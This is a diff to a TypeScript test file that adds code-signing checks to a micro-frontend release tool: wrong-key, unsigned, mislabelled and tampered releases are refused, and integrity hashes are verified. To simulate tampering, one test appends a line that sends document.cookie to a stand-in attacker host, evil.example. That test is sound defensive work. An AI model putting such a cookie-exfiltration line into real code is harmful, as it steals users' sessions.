@@ -1,5 +1,6 @@
 /** The release pointer's moves and the fit checks (the `release` stage of scripts/test.mjs). */
 import { test } from 'node:test';
+import crypto from 'node:crypto';
 import assert from 'node:assert/strict';
 import fs from 'node:fs';
 import os from 'node:os';
@@ -19,6 +20,7 @@ import {
   writeAll,
   type App,
   type Pointer,
+  VERSION_DIR,
   type Version,
 } from '../core/store';
 import type { ReleaseInfo, SpecRoutesFile } from '../core/published';
@@ -26,6 +28,7 @@ import { apiPublicOrigin } from '../../../apps.config.mjs';
 import type { RouteEntry, SpecRoute } from 'shared/routes';
 import { callProblems, routeProblems, sharedFit, staffRouteProblems } from './checks';
 import { demoteRelease, describe, endCanaryRelease, Refused, release, rollback } from './release';
+import { publicKeyOf, SIGNATURE_FILE, signBuild, type KeyRing } from '../core/signing';
 
 // versions as a pointer from before `verified` was recorded has them
 const v = (id: string): Version => ({ id, version: id.split('-')[0], shared: '1.0.0', publishedAt: '2026-11-23T10:00:00.000Z' });
@@ -309,22 +312,41 @@ function stack() {
   };
   const common = { apps, releasesDir, hostDist };
   const byName = (dir: string) => apps.find((a) => a.dir === dir)!;
+  // each remote's squad with a key of its own, as squads.json has them
+  const privateKeys = Object.fromEntries(
+    ['loan', 'repay', 'operations'].map((squad) => [
+      squad,
+      crypto.generateKeyPairSync('ec', { namedCurve: 'P-256' }).privateKey.export({ type: 'pkcs8', format: 'pem' }) as string,
+    ]),
+  );
+  const keys: KeyRing = Object.fromEntries(
+    Object.entries(privateKeys).map(([squad, key]) => [squad, { remotes: [`mf_${squad}`], publicKey: publicKeyOf(key) }]),
+  );
+  /** the build in `from` of the remote in `dir`, signed by `squad` (default: its own) */
+  const sign = (dir: string, from: string, squad = byName(dir).name.replace('mf_', '')) => signBuild(from, byName(dir).name, privateKeys[squad]);
   return {
     releasesDir,
     byName,
+    keys,
+    privateKeys,
+    sign,
     build: (dir: string, info?: Partial<ReleaseInfo>) => build(byName(dir), info),
-    release: (dir: string, opts: Partial<Parameters<typeof release>[0]> = {}) =>
-      release({
+    release: (dir: string, opts: Partial<Parameters<typeof release>[0]> = {}) => {
+      const from = opts.from ?? build(byName(dir));
+      return release({
         ...common,
         app: byName(dir),
-        from: build(byName(dir)),
+        from,
+        signed: sign(dir, from),
+        keys,
         hostManifest: { shared: [{ name: 'shared', version: '1.0.0' }] },
         spec,
         contract: { fingerprint: 'f', endpoints: [] },
         apiOrigin: 'http://api',
         verified: true,
         ...opts,
-      }),
+      });
+    },
     rollback: (dir: string, opts: { to?: string; by?: string; note?: string; origin?: string } = {}) => rollback({ ...common, app: byName(dir), ...opts }),
     demote: (dir: string, version: string, reason: string) => demoteRelease({ ...common, app: byName(dir), version, reason }),
     /** the files a pointer change writes, as bytes */
@@ -333,6 +355,7 @@ function stack() {
     remotesJson: () => JSON.parse(fs.readFileSync(path.join(releasesDir, 'host/remotes.json'), 'utf8')),
     pageFiles: () => pageAssets(releasesDir).files,
     pageScreens: () => pageAssets(releasesDir).screens,
+    pageIntegrity: () => pageAssets(releasesDir).integrity,
   };
 }
 
@@ -399,6 +422,72 @@ test('a release needing a newer platform than the host has is refused, naming th
   assert.deepEqual(Object.keys(s.remotesJson()), ['mf_loan']);
 });
 
+test("a release signed with another squad's key, unsigned, or whose files changed after signing is refused; the log keeps each refusal, nothing switches", async () => {
+  const s = stack();
+  const { id: good } = await s.release('mf-repay');
+  const refusedWith = async (opts: Partial<Parameters<typeof release>[0]>, message: string) => {
+    const versions = () => fs.readdirSync(path.join(s.releasesDir, 'mf-repay')).filter((f) => VERSION_DIR.test(f));
+    const before = versions();
+    const remotes = s.remotesJson();
+    await assert.rejects(s.release('mf-repay', opts), (e) => e instanceof Refused && e.message === message);
+    const pointer = readPointer(path.join(s.releasesDir, 'mf-repay'), 'mf_repay');
+    assert.equal(pointer.current, good);
+    assert.deepEqual(pointer.log!.at(-1), { ...pointer.log!.at(-1), action: 'refused', note: message });
+    assert.deepEqual(versions(), before, 'no version folder');
+    assert.deepEqual(s.remotesJson(), remotes);
+  };
+  const other = s.build('mf-repay');
+  await refusedWith(
+    { from: other, signed: s.sign('mf-repay', other, 'loan') },
+    "mf_repay 1.0.0 is signed with the loan squad's key; only the repay squad may release mf_repay",
+  );
+  await refusedWith({ from: s.build('mf-repay'), signed: undefined }, "mf_repay 1.0.0 is not signed: a release is signed with the repay squad's key");
+  // a key no squad has
+  const stranger = crypto.generateKeyPairSync('ec', { namedCurve: 'P-256' }).privateKey.export({ type: 'pkcs8', format: 'pem' }) as string;
+  const strange = s.build('mf-repay');
+  await refusedWith(
+    { from: strange, signed: signBuild(strange, 'mf_repay', stranger) },
+    "mf_repay 1.0.0 is not signed with the repay squad's key: only the repay squad may release mf_repay",
+  );
+  // a chunk changed after the squad signed the build (on its way to the bucket, say)
+  const tampered = s.build('mf-repay');
+  const signed = s.sign('mf-repay', tampered);
+  const chunk = fs.readdirSync(tampered).find((f) => f.startsWith('routes.'))!;
+  fs.appendFileSync(path.join(tampered, chunk), ';fetch("https://evil.example/"+document.cookie)');
+  await refusedWith({ from: tampered, signed }, `mf_repay 1.0.0's files are not the ones signed (${chunk})`);
+  // the squad's own signature, but of another remote's build: not this one's
+  const mislabelled = s.build('mf-repay');
+  await refusedWith(
+    { from: mislabelled, signed: signBuild(mislabelled, 'mf_loan', s.privateKeys.repay) },
+    'the signature is for mf_loan 1.0.0, not mf_repay 1.0.0',
+  );
+});
+
+test('a released version carries its signature: every file a phone loads with its sha384 integrity, signed by its squad', async () => {
+  const s = stack();
+  const { id } = await s.release('mf-repay');
+  const folder = path.join(s.releasesDir, 'mf-repay', id);
+  const published = JSON.parse(fs.readFileSync(path.join(folder, SIGNATURE_FILE), 'utf8'));
+  const manifest = JSON.parse(published.payload);
+  assert.equal(manifest.remote, 'mf_repay');
+  assert.deepEqual(
+    Object.keys(manifest.files).sort(),
+    ['mf-manifest.json', 'release.json', fs.readdirSync(folder).find((f) => /^routes\.\d+\.js$/.test(f))].sort(),
+  );
+  const file = 'mf-manifest.json';
+  assert.equal(
+    manifest.files[file],
+    `sha384-${crypto
+      .createHash('sha384')
+      .update(fs.readFileSync(path.join(folder, file)))
+      .digest('base64')}`,
+  );
+  // ECDSA P-256 over SHA-256, r||s as WebCrypto checks it (host/src/remotes/integrity.ts)
+  const key = crypto.createPublicKey({ key: Buffer.from(s.keys.repay.publicKey!, 'base64'), format: 'der', type: 'spki' });
+  assert.equal(key.asymmetricKeyDetails?.namedCurve, 'prime256v1');
+  assert.ok(crypto.verify('sha256', Buffer.from(published.payload), { key, dsaEncoding: 'ieee-p1363' }, Buffer.from(published.signature, 'base64')));
+});
+
 test('a rollback to a version whose manifest is corrupt is refused, names it, and changes nothing', async () => {
   const s = stack();
   await s.release('mf-loan');
@@ -417,11 +506,37 @@ test('a rollback to a version whose manifest is corrupt is refused, names it, an
   assert.deepEqual(s.written(), before);
 });
 
+test("the host page gives a release's start-up and screen files the integrity its signature gives them, and asks for the signature with the manifest", async () => {
+  const s = stack();
+  const from = s.build('mf-repay', { screens: { mf_repayHome: ['7.js', '7.css'] } });
+  for (const f of ['7.js', '7.css']) fs.writeFileSync(path.join(from, f), `/* ${f} */`);
+  const r = await s.release('mf-repay', { from });
+  const at = (f: string) => `http://localhost:3103/${r.id}/${f}`;
+  const chunk = fs.readdirSync(from).find((f) => /^routes\.\d+\.js$/.test(f))!;
+  // the manifest, then its signature (the host reads it next), then the entry and the routes chunk
+  assert.deepEqual(s.pageFiles().mf_repay, [at('mf-manifest.json'), at(SIGNATURE_FILE), at('remoteEntry.js'), at(chunk)]);
+  const signed = JSON.parse(JSON.parse(fs.readFileSync(path.join(s.releasesDir, 'mf-repay', r.id, SIGNATURE_FILE), 'utf8')).payload).files;
+  // every hinted file the signature covers (this build has no remoteEntry.js), by address; nothing else of the release
+  assert.deepEqual(s.pageIntegrity().mf_repay, {
+    [at('mf-manifest.json')]: signed['mf-manifest.json'],
+    [at(chunk)]: signed[chunk],
+    [at('7.js')]: signed['7.js'],
+    [at('7.css')]: signed['7.css'],
+  });
+  assert.match(s.pageIntegrity().mf_repay[at(chunk)], /^sha384-[A-Za-z0-9+/]{64}$/);
+});
+
 test("another remote's unreadable release does not block a release: its entry, start-up and screens' files stay as published, with a warning", async (t) => {
   const s = stack();
   const loan = await s.release('mf-loan');
   await s.release('mf-repay');
-  const [loanEntry, loanFiles, loanScreens] = [s.remotesJson().mf_loan, s.pageFiles().mf_loan, s.pageScreens().mf_loan];
+  const [loanEntry, loanFiles, loanScreens, loanIntegrity] = [
+    s.remotesJson().mf_loan,
+    s.pageFiles().mf_loan,
+    s.pageScreens().mf_loan,
+    s.pageIntegrity().mf_loan,
+  ];
+  assert.ok(Object.keys(loanIntegrity).length);
   assert.deepEqual(loanEntry.routes, [{ name: 'mf_loanHome', path: '/mf_loan', remote: 'mf_loan' }]);
   fs.writeFileSync(path.join(s.releasesDir, 'mf-loan', loan.id, 'mf-manifest.json'), 'not json');
   const warn = t.mock.method(console, 'warn', () => {});
@@ -431,6 +546,7 @@ test("another remote's unreadable release does not block a release: its entry, s
   assert.deepEqual(s.remotesJson().mf_loan, loanEntry);
   assert.deepEqual(s.pageFiles().mf_loan, loanFiles);
   assert.deepEqual(s.pageScreens().mf_loan, loanScreens);
+  assert.deepEqual(s.pageIntegrity().mf_loan, loanIntegrity);
   // the page gone too: the entry stays, with no start-up files; and the remote's own route table still guards this release's
   fs.rmSync(path.join(s.releasesDir, 'host/index.html'));
   await s.release('mf-repay');
